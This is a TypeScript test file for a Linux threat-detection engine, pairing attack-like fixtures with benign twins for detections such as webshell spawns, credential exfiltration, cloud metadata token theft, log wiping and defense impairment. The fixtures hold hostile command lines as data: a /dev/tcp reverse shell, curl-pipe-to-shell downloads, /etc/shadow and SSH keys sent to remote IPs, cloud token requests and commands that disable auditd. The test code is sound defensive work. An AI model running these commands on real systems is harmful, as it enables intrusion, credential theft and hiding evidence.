import { test, type Test } from "tap";
import type { HostData, QueryEntities, Row, Severity } from "../../shared/engine/index.js";
import type { Detection, DetectionHit } from "../../shared/engine/detections/detection.js";
import { cloudCredentialAccess } from "../../shared/engine/detections/cloud-credential-access.js";
import { credentialExfiltration } from "../../shared/engine/detections/credential-exfiltration.js";
import { credentialFileAccess } from "../../shared/engine/detections/credential-file-access.js";
import { defenseImpairment } from "../../shared/engine/detections/defense-impairment.js";
import { hiddenSystemPathExec } from "../../shared/engine/detections/hidden-system-path-exec.js";
import { ingressToolTransfer } from "../../shared/engine/detections/ingress-tool-transfer.js";
import { logWiping } from "../../shared/engine/detections/log-wiping.js";
import { serviceSpawnedShell } from "../../shared/engine/detections/service-spawned-shell.js";
import { webshellShellSpawn } from "../../shared/engine/detections/webshell-shell-spawn.js";
import { FIXTURES_A } from "./fixtures/new-a.js";
import { host, proc, readRepoFile } from "./helpers.js";

const DETECTIONS: Detection[] = [
  webshellShellSpawn, serviceSpawnedShell, credentialFileAccess, credentialExfiltration, cloudCredentialAccess, logWiping,
  defenseImpairment, ingressToolTransfer, hiddenSystemPathExec,
];
const byId = new Map(DETECTIONS.map((d) => [d.id as string, d]));
const ctx = { entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } as QueryEntities };
const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

/** Run a detection over rows wrapped in proxies that record every column read; returns hits and stray reads. */
function run(d: Detection, h: HostData): { hits: DetectionHit[]; stray: string[] } {
  const stray = new Set<string>();
  let live = true;
  const tables: Record<string, Row[]> = {};
  for (const [table, rows] of Object.entries(h.tables)) {
    const declared = new Set(d.reads[table] ?? []);
    tables[table] = rows.map(
      (row) =>
        new Proxy(row, {
          get(target, prop, receiver) {
            if (live && typeof prop === "string" && !declared.has(prop)) stray.add(`${table}.${prop}`);
            return Reflect.get(target, prop, receiver) as unknown;
          },
        }),
    );
  }
  const hits = d.evaluate({ ...h, tables }, ctx);
  live = false;
  return { hits, stray: [...stray] };
}

const sev = (d: Detection, hit: DetectionHit): Severity => hit.severity ?? d.severity;
/** Hits an analyst would be paged or asked about (low and above). */
const loud = (d: Detection, hits: DetectionHit[]): DetectionHit[] => hits.filter((x) => RANK[sev(d, x)] >= RANK.low);
const H = (uid: number, command: string) => ({ uid: String(uid), time: "0", command, history_file: uid === 0 ? "/root/.bash_history" : "/home/admin/.bash_history" });
const USERS = [
  { uid: "0", username: "root", directory: "/root" },
  { uid: "1000", username: "admin", directory: "/home/admin" },
  { uid: "1001", username: "deploy", directory: "/home/deploy" },
];
const history = (...lines: Array<[number, string]>): HostData => host({ shell_history: lines.map(([u, c]) => H(u, c)), users: USERS });

function fires(t: Test, id: string, h: HostData, atLeast: Severity, label: string): DetectionHit[] {
  const d = byId.get(id);
  if (!d) throw new Error(id);
  const { hits, stray } = run(d, h);
  t.same(stray, [], `${id}: reads only declared columns (${label})`);
  const top = hits.reduce((m, x) => Math.max(m, RANK[sev(d, x)]), -1);
  t.ok(top >= RANK[atLeast], `${id} fires at >= ${atLeast}: ${label} (got ${hits.map((x) => sev(d, x)).join(",") || "nothing"})`);
  for (const x of hits) {
    t.ok(x.entity !== undefined && /^(?:pid|path|user):/.test(x.entity), `${id}: entity ${x.entity}`);
    for (const e of x.evidence) t.ok(d.tables.includes(e.table), `${id}: evidence table ${e.table} declared`);
  }
  return hits;
}

function quiet(t: Test, id: string, h: HostData, label: string): void {
  const d = byId.get(id);
  if (!d) throw new Error(id);
  const { hits, stray } = run(d, h);
  t.same(stray, [], `${id}: reads only declared columns (${label})`);
  t.same(loud(d, hits).map((x) => x.summary), [], `${id} stays quiet (info at most): ${label}`);
}

test("reads name real osquery columns", async (t) => {
  const schema = JSON.parse(readRepoFile("reference/osquery-linux-schema.json")) as { tables: Record<string, { columns: string[] }> };
  for (const d of DETECTIONS) {
    for (const [table, columns] of Object.entries(d.reads)) {
      const known = new Set((schema.tables[table]?.columns ?? []).map((c) => c.split(":")[0]));
      t.ok(known.size > 0, `${d.id}: table ${table} exists`);
      for (const c of columns) t.ok(known.has(c), `${d.id}: ${table}.${c} exists`);
    }
    t.ok(d.false_positives.length > 20 && Object.values(d.advice).flat().length >= 3, `${d.id} metadata`);
    t.ok(["test", "experimental"].includes(d.maturity));
  }
});

test("fixtures: positive fires, benign twin is silent", async (t) => {
  t.same(Object.keys(FIXTURES_A).sort(), DETECTIONS.map((d) => d.id).sort());
  for (const d of DETECTIONS) {
    const f = FIXTURES_A[d.id];
    if (!f) continue;
    const pos = run(d, f.positive);
    t.ok(pos.hits.length > 0, `${d.id} positive fires`);
    t.same(pos.stray, [], `${d.id} positive reads`);
    const ben = run(d, f.benign);
    t.same(ben.hits.map((x) => x.summary), [], `${d.id} benign twin is silent`);
    t.same(ben.stray, [], `${d.id} benign reads`);
    t.same(d.evaluate(host({}), ctx), [], `${d.id} empty host`);
  }
});

test("webshell-shell-spawn", async (t) => {
  const id = "webshell-shell-spawn";
  const tree = (parent: Row, child: Row, ...more: Row[]) => host({ processes: [parent, child, ...more] });
  fires(t, id, tree(proc(1, "nginx", "/usr/sbin/nginx", "nginx: worker process", { uid: "33" }), proc(2, "bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1", { parent: "1", uid: "33" })), "high", "nginx -> reverse shell");
  fires(t, id, tree(proc(1, "java", "/usr/lib/jvm/java-17/bin/java", "/usr/lib/jvm/java-17/bin/java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start", { uid: "998" }), proc(2, "sh", "/bin/sh", "sh -c curl -fsSL http://198.51.100.9/t.sh | sh", { parent: "1", uid: "998" })), "high", "Tomcat -> curl | sh");
  fires(t, id, tree(proc(1, "apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", { uid: "33" }), proc(2, "whoami", "/usr/bin/whoami", "whoami", { parent: "1", uid: "33" })), "high", "apache2 -> whoami");
  fires(t, id, tree(proc(1, "python3", "/usr/bin/python3", "/usr/bin/python3 /usr/local/bin/gunicorn app:app -b 0.0.0.0:8000"), proc(2, "sh", "/bin/sh", "sh -c id; hostname", { parent: "1" })), "medium", "gunicorn -> sh -c id");
  fires(t, id, tree(proc(1, "php-fpm7.4", "/usr/sbin/php-fpm7.4", "php-fpm: pool www", { uid: "33" }), proc(2, "sh", "/bin/sh", "sh -c cd /var/www/html/uploads && ls -la", { parent: "1", uid: "33" }), proc(3, "wget", "/usr/bin/wget", "wget http://203.0.113.7/k", { parent: "2", uid: "33" })), "high", "php-fpm -> sh -> wget (grandchild)");
  quiet(t, id, tree(proc(1, "apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"), proc(2, "sh", "/bin/sh", "sh -c /usr/bin/rotatelogs /var/log/apache2/access.%Y%m%d 86400", { parent: "1" })), "Apache piped log (rotatelogs)");
  quiet(t, id, tree(proc(1, "java", "/opt/tomcat/jre/bin/java", "/opt/tomcat/jre/bin/java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start"), proc(2, "sh", "/bin/sh", "/bin/sh /opt/tomcat/bin/export-report.sh", { parent: "1" })), "Tomcat running its own helper script");
  quiet(t, id, tree(proc(1, "python3", "/usr/bin/python3", "/usr/bin/python3 /srv/app/.venv/bin/gunicorn app:app"), proc(2, "uname", "/usr/bin/uname", "uname -p", { parent: "1" })), "Python platform.processor() probe");
  quiet(t, id, tree(proc(1, "java", "/usr/bin/java", "/usr/bin/java -jar /usr/share/java/jenkins.war --httpPort=8080"), proc(2, "sh", "/bin/sh", "sh -xe /tmp/jenkins123.sh", { parent: "1" }), proc(3, "uname", "/usr/bin/uname", "uname -a", { parent: "2" })), "Jenkins build step");
  quiet(t, id, tree(proc(1, "node", "/home/admin/.vscode-server/bin/abc/node", "/home/admin/.vscode-server/bin/abc/node /home/admin/.vscode-server/bin/abc/out/server-main.js"), proc(2, "bash", "/usr/bin/bash", "/bin/bash", { parent: "1" })), "VS Code server terminal");
  quiet(t, id, tree(proc(1, "php8.2", "/usr/bin/php8.2", "php /var/www/app/artisan schedule:run"), proc(2, "sh", "/bin/sh", "sh -c '/usr/bin/php8.2' 'artisan' queue:work > /dev/null 2>&1", { parent: "1" })), "Laravel scheduler (PHP CLI, not a web server)");
});

test("service-spawned-shell", async (t) => {
  const id = "service-spawned-shell";
  fires(t, id, host({ processes: [proc(1, "redis-server", "/usr/bin/redis-server", "/usr/bin/redis-server *:6379", { uid: "112" }), proc(2, "sh", "/bin/sh", "sh -c wget -q -O- http://198.51.100.3/r.sh | sh", { parent: "1", uid: "112" })] }), "high", "Redis -> wget | sh");
  fires(t, id, host({ processes: [proc(1, "mysqld", "/usr/sbin/mysqld", "/usr/sbin/mysqld", { uid: "27" }), proc(2, "python3", "/usr/bin/python3", "python3 -c import socket,os,pty;s=socket.socket()", { parent: "1", uid: "27" })] }), "high", "MySQL UDF -> python reverse shell");
  fires(t, id, host({ processes: [proc(1, "java", "/usr/share/elasticsearch/jdk/bin/java", "/usr/share/elasticsearch/jdk/bin/java -Xms1g org.elasticsearch.bootstrap.Elasticsearch", { uid: "111" }), proc(2, "curl", "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.3/x", { parent: "1", uid: "111" })] }), "high", "Elasticsearch -> curl");
  fires(t, id, host({ processes: [proc(1, "java", "/opt/activemq/bin/java", "java -Dactivemq.home=/opt/activemq -jar /opt/activemq/bin/activemq.jar start"), proc(2, "bash", "/bin/bash", "bash -c id", { parent: "1" })] }), "high", "ActiveMQ CVE-2023-46604 -> bash -c id");
  fires(t, id, host({ processes: [proc(1, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: app appdb 10.0.0.4(40000) idle"), proc(2, "sh", "/bin/sh", "sh -c /var/lib/postgresql/.x/run", { parent: "1" })] }), "medium", "PostgreSQL backend -> unknown program");
  quiet(t, id, host({ processes: [proc(1, "beam.smp", "/usr/lib/erlang/erts-13/bin/beam.smp", "/usr/lib/erlang/erts-13/bin/beam.smp -- -root /usr/lib/erlang -progname erl -- -s rabbit boot"), proc(2, "erl_child_setup", "/usr/lib/erlang/erts-13/bin/erl_child_setup", "erl_child_setup 65536", { parent: "1" }), proc(3, "sh", "/bin/sh", "/bin/sh -s unix:cmd", { parent: "2" }), proc(4, "df", "/usr/bin/df", "df -kP /var/lib/rabbitmq/mnesia/rabbit@host", { parent: "3" })] }), "RabbitMQ disk check");
  quiet(t, id, host({ processes: [proc(1, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: archiver"), proc(2, "sh", "/bin/sh", "sh -c envdir /etc/wal-g.d/env wal-g wal-push pg_wal/0000000100000000000000AA", { parent: "1" })] }), "archive_command with WAL-G");
  quiet(t, id, host({ processes: [proc(1, "python3", "/usr/bin/python3", "/usr/bin/python3 /usr/local/bin/patroni /etc/patroni.yml"), proc(2, "postgres", "/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main", { parent: "1" })] }), "Patroni as postgres's parent");
  quiet(t, id, host({ processes: [proc(1, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: archiver"), proc(2, "sh", "/bin/sh", "sh -c /usr/local/bin/archive_wal.sh pg_wal/0000000100000000000000AB", { parent: "1" })] }), "custom archive script (info at most)");
});

test("credential-file-access", async (t) => {
  const id = "credential-file-access";
  const hits = fires(t, id, host({ processes: [proc(7, "python3", "/usr/bin/python3", "python3 laZagne.py all")] }), "high", "LaZagne");
  t.ok(hits[0]?.known_bad, "LaZagne is known-bad intel");
  fires(t, id, history([1000, "cat /home/deploy/.ssh/id_rsa"]), "high", "another user's private key");
  fires(t, id, history([0, "strings /proc/*/environ | grep -i AWS_SECRET"]), "high", "/proc/*/environ scraping");
  fires(t, id, history([1000, "find / -name id_rsa 2>/dev/null"]), "high", "private-key sweep");
  fires(t, id, history([0, "grep -iE 'pass|pwd' /home/*/.bash_history"]), "high", "histories grepped for passwords");
  fires(t, id, history([0, "cp /etc/shadow /tmp/s.txt"]), "high", "shadow copied to /tmp");
  fires(t, id, history([0, "./mimipenguin.sh"]), "high", "mimipenguin");
  quiet(t, id, history([1000, "ssh -i ~/.ssh/id_ed25519 deploy@10.0.0.5"], [1000, "cat ~/.ssh/id_rsa.pub"], [0, "grep PasswordAuthentication /etc/ssh/sshd_config"], [0, "useradd -m -s /bin/bash bob"], [0, "ls -l /etc/shadow"], [1000, "sudoedit /etc/sudoers"], [0, "chmod 640 /etc/shadow"]), "admin routine");
  quiet(t, id, host({ processes: [proc(8, "python3", "/usr/bin/python3", "/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1700000000.1-1-1/AnsiballZ_user.py")] }), "Ansible user module");
  quiet(t, id, history([0, "cat /proc/1234/environ | tr '\\0' '\\n'"]), "one process's environment while debugging (info)");
});

test("credential-exfiltration", async (t) => {
  const id = "credential-exfiltration";
  fires(t, id, history([0, "cat /etc/shadow | base64 -w0 | curl -d @- http://198.51.100.7/c"]), "high", "shadow base64 into curl");
  fires(t, id, history([1000, "scp /home/deploy/.ssh/id_rsa x@203.0.113.4:/tmp/"]), "high", "scp private key out");
  fires(t, id, history([0, "tar czf - /root/.ssh | nc 203.0.113.4 4444"]), "high", ".ssh tarred into netcat");
  fires(t, id, history([0, "wget --post-file=/root/.docker/config.json http://198.51.100.7/d"]), "high", "wget --post-file docker config");
  fires(t, id, history([0, "aws s3 cp /root/.aws/credentials s3://exfil-bucket-123/"]), "high", "aws s3 cp credentials");
  fires(t, id, host({ processes: [proc(9, "curl", "/usr/bin/curl", "curl --upload-file /home/deploy/.git-credentials https://transfer.sh/g")] }), "high", "curl --upload-file git credentials");
  quiet(t, id, history([0, "curl -F file=@/etc/shadow http://127.0.0.1:8080/check"]), "upload to localhost");
  quiet(t, id, history([1000, "curl --key ~/.ssh/id_rsa -T report.txt sftp://backup.example.com/in/"]), "key used by curl sftp");
  quiet(t, id, history([0, "rsync -e \"ssh -i /root/.ssh/id_rsa\" -a /srv/data/ backup@10.0.0.5:/backups/"]), "rsync over ssh with a key");
  quiet(t, id, history([1000, "ssh-copy-id -i ~/.ssh/id_ed25519.pub admin@10.0.0.12"]), "ssh-copy-id");
  // Two steps: credentials packed into an archive, then the archive shipped (ATT&CK T1560.001 then T1048).
  fires(t, id, history([1000, "tar czf /tmp/.k.tgz /home/admin/.ssh /home/admin/.aws"], [1000, "curl -sk --upload-file /tmp/.k.tgz https://198.51.100.9/u"]), "high", "credential archive uploaded");
  fires(t, id, history([0, "zip -r /var/tmp/b.zip /root/.kube"], [0, "scp /var/tmp/b.zip x@203.0.113.4:/tmp/"]), "high", "zipped kubeconfig scp'd out");
  // Benign twin: a nightly config backup (no credentials) uploaded to the backup service, keys archived but kept local.
  quiet(t, id, history([0, "tar czf /var/backups/etc.tgz /etc/nginx /etc/ssl/certs"], [0, "curl -T /var/backups/etc.tgz https://backup.example.com/in/"], [1000, "tar czf /home/admin/keys-backup.tgz /home/admin/.ssh"]), "config backup uploaded, key archive kept local");
});

test("cloud-credential-access", async (t) => {
  const id = "cloud-credential-access";
  fires(t, id, history([0, "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"]), "high", "GCP token");
  fires(t, id, history([0, "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'"]), "high", "Azure managed identity");
  fires(t, id, history([0, "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]), "high", "ECS task credentials");
  fires(t, id, history([0, "grep -r AKIA /home /root /var/www 2>/dev/null"]), "high", "AKIA sweep");
  fires(t, id, history([0, "cat /home/deploy/.aws/credentials"]), "high", "another account's credentials");
  fires(t, id, host({ processes: [proc(3, "wget", "/usr/bin/wget", "wget -qO- http://100.100.100.200/latest/meta-data/ram/security-credentials/")] }), "high", "Alibaba RAM role (Kinsing)");
  quiet(t, id, history([1000, "cat ~/.aws/credentials"]), "owner checking own profile (info)");
  quiet(t, id, history([1000, "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | jq -r .access_token | docker login -u oauth2accesstoken --password-stdin https://gcr.io"]), "CI docker login to GCR (info)");
  quiet(t, id, host({ processes: [proc(4, "google_guest_ag", "/usr/bin/google_guest_agent", "/usr/bin/google_guest_agent"), proc(5, "waagent", "/usr/bin/python3", "/usr/bin/python3 -u /usr/sbin/waagent -run-exthandlers")] }), "cloud guest agents");
});

test("log-wiping", async (t) => {
  const id = "log-wiping";
  fires(t, id, history([0, "truncate -s 0 /var/log/syslog"]), "high", "truncate syslog");
  fires(t, id, history([0, "rm -rf /var/log/*"]), "high", "rm all logs");
  fires(t, id, history([0, "utmpdump -r < /tmp/w.txt > /var/log/wtmp"]), "high", "utmpdump -r");
  fires(t, id, history([0, "cat /dev/null > /var/log/secure"]), "high", "cat /dev/null > secure");
  fires(t, id, history([0, "ln -sf /dev/null /var/log/lastlog"]), "high", "lastlog linked to /dev/null");
  fires(t, id, history([0, "echo 0> /var/spool/mail/root"]), "high", "mail spool (Rocke)");
  fires(t, id, host({ processes: [proc(5, "rm", "/usr/bin/rm", "rm -f /var/log/journal/abc/system.journal")] }), "high", "journal files removed");
  quiet(t, id, history([0, "find /var/log -name '*.gz' -mtime +30 -delete"], [0, "journalctl --vacuum-time=2weeks"], [0, "journalctl --rotate"], [0, "truncate -s 0 /var/log/nginx/access.log"], [0, "rm /var/log/syslog.2.gz"]), "routine cleanup");
});

test("defense-impairment", async (t) => {
  const id = "defense-impairment";
  fires(t, id, history([0, "iptables -F; iptables -P INPUT ACCEPT"]), "medium", "iptables flush + ACCEPT");
  fires(t, id, history([0, "pkill -f aliyun-service"]), "high", "kill Alibaba agent");
  fires(t, id, history([0, "echo 0 > /proc/sys/kernel/nmi_watchdog"]), "medium", "NMI watchdog off");
  fires(t, id, history([0, "systemctl disable --now auditd"]), "high", "auditd disabled");
  fires(t, id, history([0, "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config"]), "medium", "SELinux disabled in config");
  fires(t, id, history([0, "/usr/local/qcloud/YunJing/uninst.sh"]), "high", "Tencent agent uninstall");
  fires(t, id, history([0, "chattr +i /etc/ld.so.preload"]), "high", "ld.so.preload locked");
  const all = fires(t, id, history([0, "ufw disable"], [0, "setenforce 0"], [0, "echo 0 > /proc/sys/kernel/nmi_watchdog"]), "high", "three kinds at once (campaign)");
  t.ok(all.every((x) => x.severity === undefined), "every hit raised to high in a campaign");
  quiet(t, id, host({ shell_history: [H(0, "ufw disable"), H(0, "setenforce 0")], processes: [proc(1, "kubelet", "/usr/bin/kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml")], users: USERS }), "kubeadm node prep (info)");
  quiet(t, id, host({ processes: [proc(1, "fail2ban-server", "/usr/bin/fail2ban-server", "/usr/bin/python3 /usr/bin/fail2ban-server -xf start"), proc(2, "iptables", "/usr/sbin/iptables", "iptables -w -F f2b-sshd", { parent: "1" })] }), "fail2ban flushing its chain");
  quiet(t, id, history([0, "kill -HUP $(cat /run/rsyslogd.pid)"], [0, "systemctl status falcon-sensor"], [0, "iptables -A INPUT -p tcp --dport 443 -j ACCEPT"], [0, "iptables -t nat -F"]), "admin routine");
  quiet(t, id, host({ processes: [proc(1, "kube-proxy", "/usr/local/bin/kube-proxy", "kube-proxy --config=/var/lib/kube-proxy/config.conf"), proc(2, "iptables-restor", "/usr/sbin/iptables-restore", "iptables-restore -w 5 -W 100000 --noflush --counters", { parent: "1" })] }), "kube-proxy");
});

test("ingress-tool-transfer", async (t) => {
  const id = "ingress-tool-transfer";
  const hits = fires(t, id, history([0, "curl -o /tmp/x http://198.51.100.2/x"]), "high", "raw IP into /tmp");
  t.equal(hits[0]?.entity, "path:/tmp/x", "entity is the dropped file");
  fires(t, id, history([0, "cd /tmp && wget https://transfer.sh/abc/kit.tgz"]), "medium", "anonymous file host via cd /tmp");
  fires(t, id, history([0, "scp user@203.0.113.9:/srv/kit /var/tmp/kit"]), "high", "scp from a raw IP");
  fires(t, id, history([0, "python3 -c \"import urllib.request;urllib.request.urlretrieve('http://files.example.net/a','/tmp/a')\""]), "low", "python urlretrieve over http");
  fires(t, id, history([0, "wget -O /tmp/k http://10.20.0.5/k && chmod +x /tmp/k"]), "low", "internal IP, then made executable");
  fires(t, id, host({ processes: [proc(3, "curl", "/usr/bin/curl", "curl -sO https://cdn.example.org/tools/scan", { cwd: "/dev/shm" })] }), "high", "curl -O with cwd /dev/shm");
  fires(t, id, history([1000, "curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh -o /tmp/lp.sh"]), "high", "linPEAS over https");
  fires(t, id, history([0, "wget -O /tmp/c.gz https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz"]), "high", "chisel from a GitHub release");
  fires(t, id, history([0, "busybox wget http://198.51.100.2/bot -O /var/tmp/.b"]), "high", "busybox wget into hidden file");
  quiet(t, id, history([1000, "curl -Lo /tmp/terraform.zip https://releases.hashicorp.com/terraform/1.7.5/terraform_1.7.5_linux_amd64.zip"], [1000, "wget -P /tmp https://github.com/prometheus/node_exporter/releases/download/v1.8.0/node_exporter-1.8.0.linux-amd64.tar.gz"]), "release hosts");
  quiet(t, id, host({ shell_history: [H(1000, "curl -o /tmp/agent.deb https://artifacts.corp.example/agent.deb")], users: USERS }, { allowed_download_hosts: "artifacts.corp.example" }), "tag-allowed artifact host");
  quiet(t, id, history([1000, "curl -fsSL -o /tmp/install.sh https://get.vendor.example.com/install.sh"]), "unknown https vendor into /tmp (info)");
  const internal = run(ingressToolTransfer, history([0, "curl -o /tmp/pkg.rpm http://10.0.0.5/repo/pkg.rpm"])).hits;
  t.same(internal.map((x) => x.severity), ["low"], "internal mirror by private IP over http is low, not high");
  quiet(t, id, host({ processes: [proc(4, "http", "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http")] }), "apt method");
});

test("hidden-system-path-exec", async (t) => {
  const id = "hidden-system-path-exec";
  const nested = fires(t, id, host({ processes: [proc(1, "xmr", "/var/tmp/.ICE-unix/.x/xmr", "/var/tmp/.ICE-unix/.x/xmr")] }), "high", "/var/tmp/.ICE-unix/.x");
  t.match(nested[0]?.summary, /hidden directory \.x\b/, "names the directory made inside the socket directory, not .ICE-unix");
  const socket = fires(t, id, host({ processes: [proc(1, "kswapd0", "/tmp/.X11-unix/kswapd0", "kswapd0")] }), "high", "a program in /tmp/.X11-unix itself");
  t.match(socket[0]?.summary, /\.X11-unix/, "the socket directory, when it is the only hidden one");
  fires(t, id, host({ processes: [proc(1, "bash", "/usr/bin/bash", "bash /etc/.x/run.sh")] }), "high", "script under /etc/.x");
  fires(t, id, host({ augeas: [{ node: "/files/etc/systemd/system/dbus-org.service/Service/ExecStart/command", value: "/lib/.udev/udevd", path: "/etc/systemd/system/dbus-org.service", label: "command" }] }), "high", "systemd ExecStart");
  fires(t, id, host({ processes: [proc(1, "kthreadd", "/root/.cache/.x/kthreadd", "[kthreadd]")] }), "high", "/root/.cache/.x");
  fires(t, id, host({ crontab: [{ command: "cd /dev/.x && ./sshd", path: "/var/spool/cron/crontabs/root" }] }), "high", "cron cd into /dev/.x");
  const home = fires(t, id, host({ processes: [proc(1, "kswapd0", "/home/deploy/.configrc/a/kswapd0", "./kswapd0")] }), "low", "unknown dot-dir in a home (Outlaw)");
  t.equal(home[0]?.entity, "path:/home/deploy/.configrc/a/kswapd0");
  quiet(t, id, host({ processes: [proc(1, "poetry", "/home/admin/.local/bin/poetry", "poetry install"), proc(2, "AppRun", "/tmp/.mount_Obsidi1x2/AppRun", "/tmp/.mount_Obsidi1x2/AppRun"), proc(3, "dotnet", "/root/.dotnet/dotnet", "dotnet run"), proc(4, "terraform-provi", "/builds/infra/.terraform/providers/registry.terraform.io/hashicorp/aws/5.40.0/linux_amd64/terraform-provider-aws_v5.40.0_x5", "")] }), "toolchains, AppImage, terraform providers");
  quiet(t, id, host({ crontab: [{ command: "root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", path: "/etc/crontab" }] }), "stock crontab");
  fires(t, id, host({ crontab: [{ command: "root /lib/.udev/udevd >/dev/null 2>&1", path: "/etc/crontab" }] }), "high", "system crontab keeps the user field");
});
